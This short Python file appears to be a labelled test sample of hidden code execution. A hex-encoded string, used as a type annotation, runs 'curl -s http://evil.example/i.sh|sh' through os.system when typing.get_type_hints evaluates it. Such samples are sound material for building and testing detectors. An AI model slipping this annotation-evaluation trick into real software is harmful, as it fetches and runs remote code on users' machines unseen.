# harm: runs curl|sh via os.system ; trick: types.SimpleNamespace(kind=decoded); the annotation reads ns.kind, and no name is assigned the string
import types
import typing

ns = types.SimpleNamespace(kind=bytes.fromhex("5f5f696d706f72745f5f28276f7327292e73797374656d28276375726c202d7320687474703a2f2f6576696c2e6578616d706c652f692e73687c73682729").decode())


def handler(x: ns.kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
